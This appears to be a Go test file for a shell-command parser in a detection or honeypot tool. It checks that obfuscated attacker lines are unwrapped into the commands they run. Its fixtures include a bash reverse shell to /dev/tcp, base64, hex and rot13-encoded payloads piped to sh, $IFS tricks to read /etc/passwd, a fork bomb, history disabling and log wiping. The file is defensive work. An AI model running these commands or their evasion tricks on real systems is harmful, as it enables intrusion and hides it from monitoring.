package shell

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

type viewTest struct {
	line      string
	commands  []string
	redirects []string
}

func texts(v *View) (commands, redirects []string) {
	for _, c := range v.Commands {
		commands = append(commands, c.Text)
	}
	for _, r := range v.Redirects {
		redirects = append(redirects, r.Text)
	}
	return commands, redirects
}

func check(t *testing.T, tests []viewTest) {
	t.Helper()
	p := NewParser()
	for _, test := range tests {
		var v View
		p.Parse(test.line, &v)
		commands, redirects := texts(&v)
		if d := cmp.Diff(test.commands, commands, cmpopts.EquateEmpty()); d != "" {
			t.Errorf("Parse(%q): commands (-want +got):\n%s", test.line, d)
		}
		if d := cmp.Diff(test.redirects, redirects, cmpopts.EquateEmpty()); d != "" {
			t.Errorf("Parse(%q): redirects (-want +got):\n%s", test.line, d)
		}
	}
}

func TestSimpleCommands(t *testing.T) {
	check(t, []viewTest{
		{line: ""},
		{line: " \t\n"},
		{line: "# wget http://h"},
		{"uname  -a\t-s ", []string{"uname -a -s"}, nil},
		{"a;b&&c||d|e&f\ng", []string{"a", "b", "c", "d", "e", "f", "g"}, nil},
		{"/usr/bin/wget x", []string{"wget x"}, nil},
		{"./x", []string{"x"}, nil},
		{"/ip cloud print", []string{"/ip cloud print"}, nil},
		{"bin/", []string{"bin/"}, nil},
		{`w''get "http://h" 'a  b'`, []string{"wget http://h a  b"}, nil},
		{`w\get $'\x68\150' "a\$b\n"`, []string{`wget hh a$b\n`}, nil},
		{"wget${IFS}http://h", []string{"wget http://h"}, nil},
		{"cat$IFS$9/etc/passwd", []string{"cat /etc/passwd"}, nil},
		{"cat${IFS%??}/etc/passwd", []string{"cat /etc/passwd"}, nil},
		{"who$@ami", []string{"whoami"}, nil},
		{"w${x}get wg$@et e${@}d$*e a$x ${x}b c${x}", []string{"wget wget ede a$x ${x}b c${x}"}, nil},
		{"x=e; wg${x}t; for i in a; do b${i}c; done; read y; b${y}c", []string{"x=e", "wget", "b${i}c", "read y", "b${y}c"}, nil},
		{"b${HOME}c", []string{"b${HOME}c"}, nil},
		{"{wget,http://h}", []string{"wget http://h"}, nil},
		{`{cat,"/etc/a b"}`, []string{"cat /etc/a b"}, nil},
		{"${PATH:0:1}bin${PATH:0:1}id", []string{"id"}, nil},
		{"A=b wget x", []string{"wget x"}, nil},
		{"HISTFILE=/dev/null", []string{"HISTFILE=/dev/null"}, nil},
		{"a=wget; $a http://h", []string{"a=wget", "wget http://h"}, nil},
		{"a=wg;a+=et; ${a} x", []string{"a=wg", "a+=et", "wget x"}, nil},
		{"a='wget x'; $a", []string{"a=wget x", "wget x"}, nil},
		{"a=1; unset a; echo $a", []string{"a=1", "unset a", "echo $a"}, nil},
		{"a=1; for a in b; do echo $a; done", []string{"a=1", "echo $a"}, nil},
		{"echo $HOME ${x:-y}", []string{"echo $HOME ${x:-y}"}, nil},
		{"export A=b", []string{"export A=b"}, nil},
		{"(a; b) | { c; d; }", []string{"a", "b", "c", "d"}, nil},
		{"if a; then b; elif c; then d; else e; fi", []string{"a", "b", "c", "d", "e"}, nil},
		{"while a; do b; done; until c; do d; done", []string{"a", "b", "c", "d"}, nil},
		{"for i in $(a) b; do c $i; done", []string{"a", "c $i"}, nil},
		{"case $(a) in b) c;; *) d;; esac", []string{"a", "c", "d"}, nil},
		{"f() { a; }; f", []string{"a", "f"}, nil},
		{"! a; time b", []string{"a", "b"}, nil},
		{"[[ -n $(a) ]] && (( $(b) > 1 ))", []string{"a", "b"}, nil},
		{":(){ :|:& };:", []string{":", ":", ":"}, nil},
		{"echo $(a) `b` <(c) \"$(d)\"", []string{"echo $(a) `b` <(c) $(d)", "a", "b", "c", "d"}, nil},
		{"x=$(a)", []string{"x=$(a)", "a"}, nil},
		{"$(echo wget) x", []string{"wget x", "echo wget"}, nil},
	})
}

func TestNotCommands(t *testing.T) {
	check(t, []viewTest{
		{`echo "wget http://h; id"`, []string{"echo wget http://h; id"}, nil},
		{"grep wget /var/log/x", []string{"grep wget /var/log/x"}, nil},
		{"ls /usr/bin/wget # wget x", []string{"ls /usr/bin/wget"}, nil},
		{"cat <<EOF > f\nwget x\nEOF\nid", []string{"cat", "id"}, []string{"<< EOF", "> f"}},
		{"cat <<EOF | tee f\nwget x\nEOF", []string{"cat", "tee f"}, []string{"<< EOF"}},
		{"echo 'wget x' > f | sh", []string{"echo wget x", "sh"}, []string{"> f"}},
		{"echo 'wget x' | grep x", []string{"echo wget x", "grep x"}, nil},
		{"echo 'wget x' | base64 | sh", []string{"echo wget x", "base64", "sh"}, nil},
		{"echo 'wget x' | sh f", []string{"echo wget x", "sh f"}, nil},
		{"echo 'a:b' | chpasswd | bash", []string{"echo a:b", "chpasswd", "bash"}, nil},
		{"command -v wget", []string{"command -v wget"}, nil},
		{"sudo -l wget", []string{"sudo -l wget"}, nil},
		{"trap - INT", []string{"trap - INT"}, nil},
	})
}

func TestWrappers(t *testing.T) {
	outer := func(prefix, cmd string) viewTest {
		line := prefix + " " + cmd
		return viewTest{line, []string{line, cmd}, nil}
	}
	check(t, []viewTest{
		outer("sudo", "wget x"), outer("sudo -u x", "wget x"), outer("sudo -nEu x A=b --", "wget x"), outer("sudo --user x -S", "wget x"), outer("sudo --user=x", "id -u"),
		outer("sudo", "su -"), outer("doas -u x", "id"), outer("env -i A=b -u C", "wget x"), outer("nohup", "a"), outer("busybox", "wget x"), outer("toybox", "id"), outer("timeout -s KILL 5", "a b"),
		outer("timeout --signal=9 -k 1 5s", "a"), outer("nice -n 10", "a"), outer("nice -10", "a"), outer("ionice -c3", "a"), outer("ionice -c 3", "a"), outer("setsid", "a"), outer("stdbuf -oL", "a"),
		outer("exec -a x", "a b"), outer("command", "a"), outer("builtin", "a"), outer("xargs -I{} -n 1", "wget {}"), outer("xargs -0", "rm"), outer("chroot /h", "a"), outer("strace -f -o x", "a"),
		outer("nsenter -t 1 -m --", "a"), outer("unshare -r", "a"), outer("taskset 1", "a"), outer("systemd-run --unit=x", "a"), outer("runuser -u x --", "a"), outer("proxychains -q", "a"),
		outer("sshpass -p x", "scp a b"), outer("setarch i386 -R", "a"), outer("linux32", "a"), outer("busybox-armv7l", "wget x"),
		{"sudo /usr/bin/wget x", []string{"sudo /usr/bin/wget x", "wget x"}, nil},
		{"/bin/busybox wget x", []string{"busybox wget x", "wget x"}, nil},
		{"sudo nohup env a", []string{"sudo nohup env a", "nohup env a", "env a", "a"}, nil},
		{"sudo -l", []string{"sudo -l"}, nil},
		{"timeout 5", []string{"timeout 5"}, nil},
		{"su - x", []string{"su - x"}, nil},
		{"find / -exec sh -c 'a' \\; -ok b {} +", []string{"find / -exec sh -c a ; -ok b {} +", "sh -c a", "a", "b {}"}, nil},
		{"watch -n1 'a; b'", []string{"watch -n1 a; b", "a", "b"}, nil},
	})
}

func TestInnerTexts(t *testing.T) {
	check(t, []viewTest{
		{`sh -c "wget x"`, []string{"sh -c wget x", "wget x"}, nil},
		{`bash -o pipefail -xec 'a | b' y`, []string{"bash -o pipefail -xec a | b y", "a", "b"}, nil},
		{`sh -c "sh -c 'a'"`, []string{"sh -c sh -c 'a'", "sh -c a", "a"}, nil},
		{`sh -c "x $(y)"`, []string{"sh -c x $(y)", "y", "x $(y)"}, nil},
		{"su - x -c 'a; b'", []string{"su - x -c a; b", "a", "b"}, nil},
		{"script -qc a /dev/null", []string{"script -qc a /dev/null", "a"}, nil},
		{"env -S 'a b'", []string{"env -S a b", "a b"}, nil},
		{"eval wget x", []string{"eval wget x", "wget x"}, nil},
		{"trap 'rm x' EXIT", []string{"trap rm x EXIT", "rm x"}, nil},
		{"echo 'wget x' | sh", []string{"echo wget x", "sh", "wget x"}, nil},
		{"echo 'a' | cat | tee f | sudo bash -s", []string{"echo a", "cat", "tee f", "sudo bash -s", "bash -s", "a"}, nil},
		{"(echo a; echo b) | sh", []string{"echo a", "echo b", "sh", "a", "b"}, nil},
		{"echo d2dldCB4Cg== | base64 -d | sh", []string{"echo d2dldCB4Cg==", "base64 -d", "sh", "wget x"}, nil},
		{"echo aWQ=aWQ= | base64 -d | sh", []string{"echo aWQ=aWQ=", "base64 -d", "sh", "id"}, nil},
		{"base64 --decode <<< d2dldCB4Cg | bash", []string{"base64 --decode", "bash", "wget x"}, []string{"<<< d2dldCB4Cg"}},
		{"echo d2dldCB4Cg== | openssl enc -d -base64 -A | sh", []string{"echo d2dldCB4Cg==", "openssl enc -d -base64 -A", "sh", "wget x"}, nil},
		{"echo d2dldCB4Cg== | b64decode -r | sh", []string{"echo d2dldCB4Cg==", "b64decode -r", "sh", "wget x"}, nil},
		{"echo wget x | at now", []string{"echo wget x", "at now", "wget x"}, nil},
		{"printf 'x y\\nz' | xargs -n1 wget -q", []string{`printf x y\nz`, "xargs -n1 wget -q", "wget -q x y z"}, nil},
		{"echo 'wget x' | xargs -I{} sh -c '{}; id'", []string{"echo wget x", "xargs -I{} sh -c {}; id", "sh -c wget x; id", "wget x", "id"}, nil},
		{"echo x | xargs -I % wget %", []string{"echo x", "xargs -I % wget %", "wget x"}, nil},
		{"echo 7767 6574 2078 | xxd -r -p | sh", []string{"echo 7767 6574 2078", "xxd -r -p", "sh", "wget x"}, nil},
		{"echo 'x tegw' | rev | sh", []string{"echo x tegw", "rev", "sh", "wget x"}, nil},
		{`printf '\x77get %s\n' x y | sh`, []string{`printf \x77get %s\n x y`, "sh", "wget x", "wget y"}, nil},
		{`echo -ne '\x77get\0040\170' | sh`, []string{`echo -ne \x77get\0040\170`, "sh", "wget x"}, nil},
		{`eval "$(echo d2dldCB4Cg== | base64 -d)"`, []string{"eval wget x", "echo d2dldCB4Cg==", "base64 -d", "wget x"}, nil},
		{"cat <<EOF | sh\nwget x\nEOF", []string{"cat", "sh", "wget x"}, []string{"<< EOF"}},
		{"sh <<'EOF'\nwget $x\nEOF\nid", []string{"sh", "wget $x", "id"}, []string{"<< EOF"}},
		{"bash <(echo wget x)", []string{"bash <(echo wget x)", "echo wget x", "wget x"}, nil},
		{"source <(printf id)", []string{"source <(printf id)", "printf id", "id"}, nil},
		{"echo secret | sudo -S sh", []string{"echo secret", "sudo -S sh", "sh"}, nil},
		{"echo id | $SHELL", []string{"echo id", "$SHELL", "id"}, nil},
	})
}

func TestRedirects(t *testing.T) {
	check(t, []viewTest{
		{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", []string{"bash -i"}, []string{">& /dev/tcp/192.0.2.1/4444", "0>& 1"}},
		{"exec 3<>/dev/tcp/192.0.2.1/80", []string{"exec"}, []string{"3<> /dev/tcp/192.0.2.1/80"}},
		{"a>/etc/cron.d/x 2>/dev/null", []string{"a"}, []string{"> /etc/cron.d/x", "2> /dev/null"}},
		{`a >> "/etc/x y" &>f <g >|h`, []string{"a"}, []string{">> /etc/x y", "&> f", "< g", ">| h"}},
		{"a 2 > f", []string{"a 2"}, []string{"> f"}},
		{"> f", nil, []string{"> f"}},
		{"(a) > f", []string{"a"}, []string{"> f"}},
		{"sh -c 'a > b' > c", []string{"sh -c a > b", "a"}, []string{"> c", "> b"}},
		{"exec {fd}<f", []string{"exec"}, []string{"{fd}< f"}},
	})
}

// TestBrokenLines are lines that bash rejects.
func TestBrokenLines(t *testing.T) {
	check(t, []viewTest{
		{"if ! type x >/dev/null; then", []string{"type x"}, []string{"> /dev/null"}},
		{"done", nil, nil},
		{`echo "a; wget x`, []string{"echo a; wget x"}, nil},
		{"echo \"a\nwget x", []string{"echo a", "wget x"}, nil},
		{"echo 'a\nwget x", []string{"echo a", "wget x"}, nil},
		{"a; b)", []string{"a", "b"}, nil},
		{";; a ||| b", []string{"a", "b"}, nil},
		{"a |", []string{"a"}, nil},
		{"echo $(wget x", []string{"echo $(wget x", "wget x"}, nil},
		{`sh -c "$(wget x)`, []string{"sh -c $(wget x)", "wget x", "$(wget x)"}, nil},
		{"echo `wget x", []string{"echo `wget x", "wget x"}, nil},
		{"cat${IFS}/etc/passwd )", []string{"cat /etc/passwd"}, nil},
		{"for i in a b; do wget $i", []string{"wget $i"}, nil},
		{"while A=b c", []string{"c"}, nil},
		{"sudo wget x )", []string{"sudo wget x", "wget x"}, nil},
		{"cat <<EOF > f\nwget x\nEOF\nid )", []string{"cat", "id"}, []string{"<< EOF", "> f"}},
		{"sh <<EOF\nwget x", []string{"sh", "wget x"}, []string{"<< EOF"}},
		{"\xff\xfeid", []string{"\xff\xfeid"}, nil},
		{"id\x00\x1b )", []string{"id"}, nil},
		{`cmd.exe /c "dir`, []string{"cmd.exe /c dir"}, nil},
		{"w$'\\x67'et x )", []string{"wget x"}, nil},
	})
}

// TestPlace shows how a rule tells a command of the line from one that another command runs.
func TestPlace(t *testing.T) {
	var v View
	NewParser().Parse("sudo /bin/sh -c 'LD_PRELOAD=/x find . -exec sh -c id \\;'", &v)
	want := []Command{
		{Text: "sudo /bin/sh -c LD_PRELOAD=/x find . -exec sh -c id \\;", Name: "sudo", Args: []string{"/bin/sh", "-c", "LD_PRELOAD=/x find . -exec sh -c id \\;"}, Parent: -1},
		{Text: "sh -c LD_PRELOAD=/x find . -exec sh -c id \\;", Name: "sh", Path: "/bin/sh", Args: []string{"-c", "LD_PRELOAD=/x find . -exec sh -c id \\;"}, Via: "sudo"},
		{Text: "find . -exec sh -c id ;", Name: "find", Args: []string{".", "-exec", "sh", "-c", "id", ";"}, Assigns: []string{"LD_PRELOAD=/x"}, Via: "sh", Parent: 1, Depth: 1, Scope: 1},
		{Text: "sh -c id", Name: "sh", Args: []string{"-c", "id"}, Via: "find", Parent: 2, Depth: 1, Scope: 1},
		{Text: "id", Name: "id", Via: "sh", Parent: 3, Depth: 2, Scope: 2},
	}
	if d := cmp.Diff(want, v.Commands, cmpopts.EquateEmpty(), cmpopts.IgnoreFields(Command{}, "Marks", "AssignMarks")); d != "" {
		t.Errorf("Parse: commands (-want +got):\n%s", d)
	}
}

func TestBounds(t *testing.T) {
	tests := []struct {
		name, line string
		commands   int
		cut        bool
	}{
		{"input", "a " + strings.Repeat("b", MaxInput), 1, true},
		{"input fits", strings.Repeat("b", MaxInput), 1, false},
		{"commands", strings.Repeat("a;", MaxCommands), MaxCommands, false},
		{"commands cut", strings.Repeat("a;", MaxCommands+1), MaxCommands, true},
		{"peel", strings.Repeat("sudo ", MaxPeel-1) + "a", MaxPeel, false},
		{"peel cut", strings.Repeat("sudo ", MaxPeel+1) + "a", MaxPeel + 1, true},
		{"depth", strings.Repeat("eval ", MaxDepth) + "a", MaxDepth + 1, false},
		{"depth cut", strings.Repeat("eval ", MaxDepth+1) + "a", MaxDepth + 1, true},
		{"eval of itself", `x='eval "$x"'; eval "$x"`, 3, false},
		{"redirects cut", "a " + strings.Repeat(">b ", MaxRedirects+1), 1, true},
	}
	p := NewParser()
	for _, test := range tests {
		var v View
		p.Parse(test.line, &v)
		if len(v.Commands) != test.commands || v.Truncated != test.cut {
			t.Errorf("%s: %d commands, Truncated = %v, want %d, %v", test.name, len(v.Commands), v.Truncated, test.commands, test.cut)
		}
	}
}

// TestStrictTakes pins which lines the hand-written lexer takes: the speed of the common case rests on it.
func TestStrictTakes(t *testing.T) {
	p := NewParser()
	for line, want := range map[string]bool{
		"uname -a": true, "cd /tmp; ls && w || id | wc -l &": true, `echo "a\nb"|passwd|bash`: true, "a 2>/dev/null >f 2>&1 &>g": true, "sudo sh -c 'a; b'": true, `awk '{print $1}' x\ y`: true,
		"A=b c # d": true, "find . -exec rm {} \\;": true, "export A=b": true, `echo "x$\ny"`: true,
		`a $b ${c}`: true, `a "$(b \"$c\" | d)" $?`: true, "a `b c`": true, "diff <(a) <(b)": true, "a é": true, `a $'\t' x{}y`: true,
		"x=1; a $x": false, "read x; a $x": false, "a $(echo b)": false, "a $@$(cat f)": false, "a$b c": false, "a ${b:-c}": false, "$(a)": false, "`a`": false, "(a)": false, "{ a; }": false, "a <<b": false, "if a": false, "a |": false, `"a`: false, "a;;b": false, "\xff": false, "a {b,c}": false, "! a": false, "x[1]=2": false,
	} {
		if got := strict(p, line); got != want {
			t.Errorf("strict lexer takes %q = %v, want %v", line, got, want)
		}
	}
}

// TestViewsStayValid keeps the strings of one view while the parser goes on, as evidence does.
func TestViewsStayValid(t *testing.T) {
	p := NewParser()
	views := make([]View, 2000)
	line := func(i int) string { return fmt.Sprintf(`sudo "wget" 'http://192.0.2.1/%d'  x`, i) }
	for i := range views {
		p.Parse(line(i), &views[i])
	}
	if got := cap(p.out.block); got > 2*arenaChunk {
		t.Errorf("arena holds %d bytes after many lines, want one block", got)
	}
	for i := range views {
		want := []string{fmt.Sprintf("sudo wget http://192.0.2.1/%d x", i), fmt.Sprintf("wget http://192.0.2.1/%d x", i)}
		if got, _ := texts(&views[i]); !slices.Equal(got, want) {
			t.Fatalf("view of %q = %q after more lines, want %q", line(i), got, want)
		}
	}
}

func TestStrictAllocatesNothing(t *testing.T) {
	p := NewParser()
	var v View
	line := `cd /tmp; sudo wget -q "http://192.0.2.1/a.sh" 2>/dev/null`
	// The arena takes a block every few hundred lines.
	if got := testing.AllocsPerRun(1000, func() { p.Parse(line, &v) }); got > 0.1 {
		t.Errorf("Parse(%q) allocates %v times, want 0", line, got)
	}
}

// TestCapturesAgree holds fast and slow path together on what attackers typed; no line is without a view unless it is blank or a comment.
func TestCapturesAgree(t *testing.T) {
	p := NewParser()
	for line := range captures(t) {
		var got, want View
		p.Parse(line, &got)
		hard(p, line, &want)
		if d := cmp.Diff(want, got, sameView); d != "" {
			t.Errorf("Parse(%q): slow path (-), Parse (+):\n%s", line, d)
		}
		if len(got.Commands) == 0 && strings.TrimSpace(line) != "" && !strings.HasPrefix(line, "#") {
			t.Errorf("Parse(%q): no commands", line)
		}
	}
}

// TestFilesAndNames are lines that write what they run, or run what they name otherwise.
func TestFilesAndNames(t *testing.T) {
	last := func(line, want string) {
		t.Helper()
		var v View
		NewParser().Parse(line, &v)
		if n := len(v.Commands); n == 0 || v.Commands[n-1].Text != want {
			commands, _ := texts(&v)
			t.Errorf("Parse(%q): commands %q, want %q as the last", line, commands, want)
		}
	}
	last("echo 'wget x' > f; sh f", "wget x")
	last("echo 'wget x' > /tmp/f; chmod +x /tmp/f; /tmp/f", "wget x")
	last("cd /tmp; echo 'wget x' > f; ./f", "wget x")
	last("printf 'wget ' > f; echo x >> f; . ./f", "wget x")
	last("echo 'wget x' | tee f; bash f", "wget x")
	last("cat > f <<E\nwget x\nE\nsh f", "wget x")
	last("(echo a; echo wget x) > f; sh < f", "wget x")
	last("echo d2dldCB4 > f; base64 -d f | sh", "wget x")
	last("echo d2dldCB4 | base64 -d > f; sh f", "wget x")
	last("echo d2dldCB4 > f; cat f | base64 -di -w 0 | sh", "wget x")
	last("echo d2dldCB4 | base64 -w0 --decode | sh", "wget x")
	last("echo d2dldCB4 > f; openssl base64 -A -in f -d | sh", "wget x")
	last("echo jtrg k | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "wget x")
	last("echo WGET X | tr '[:upper:]' '[:lower:]' | sh", "wget x")
	last("echo w.g.e.t x | tr -d . | sh", "wget x")
	last("echo O5TWK5BAPA | base32 -d | sh", "wget x")
	last("base64 -d <<E | sh\nd2dldCB4\nE", "wget x")
	last("echo Y2F0IDw8RSB8IHNoCndnZXQgeApF | base64 -d | sh", "wget x")
	last("alias g='wget'; g x", "wget x")
	last("alias ls='ls -la'; ls x", "ls -la x")
	last("a=(wget x); ${a[@]}", "wget x")
	last(`a=(-q wget x); "${a[1]}" ${a[2]}`, "wget x")
	last("set -- wget x; $1 $2", "wget x")
	last(`set -- wget x; "$@"`, "wget x")
	last("(cat f; echo wget x) | sh", "wget x")
	last("echo a > f; wget x > f; sh f", "sh f")
	last("echo a | sh < f", "sh")
	last("screen -dmS n wget x", "wget x")
	last("screen -S n -d -m bash -c 'wget x'", "wget x")
	last("rm /var/log/{wtmp,btmp} x", "rm /var/log/wtmp /var/log/btmp x")
	last("cp f{,.bak} {a,b}{c,d}", "cp f f.bak ac ad bc bd")
	last("echo {1..3}x '{a,b}c' {a}b", "echo {1..3}x {a,b}c {a}b")
	last("screen -ls", "screen -ls")
	last("tmux new-session -d -s n 'wget x'", "wget x")
	last("tmux attach -t wget", "tmux attach -t wget")
}

// TestWhereabouts runs programs through variables that were told where they lie.
func TestWhereabouts(t *testing.T) {
	check(t, []viewTest{
		{"g=`which gpg`; $g -c f", []string{"g=`which gpg`", "which gpg", "gpg -c f"}, nil},
		{"p=$(which python || which python3); $p -c x", []string{"p=$(which python || which python3)", "which python", "which python3", "python -c x"}, nil},
		{"p=$(command -v nc) && $p h 1", []string{"p=$(command -v nc)", "command -v nc", "nc h 1"}, nil},
		{"export z=$(type -p 7z); sudo $z a b", []string{"export z=$(type -p 7z)", "type -p 7z", "sudo /usr/bin/7z a b", "7z a b"}, nil},
		{"p=$(which a)$(b); $p x", []string{"p=$(which a)$(b)", "which a", "b", "$p x"}, nil},
		{"p=$(dirname $(which a)); $p x", []string{"p=$(dirname $(which a))", "dirname $(which a)", "which a", "$p x"}, nil},
		{"p=$(which -a a); $p x", []string{"p=$(which -a a)", "which -a a", "$p x"}, nil},
	})
}
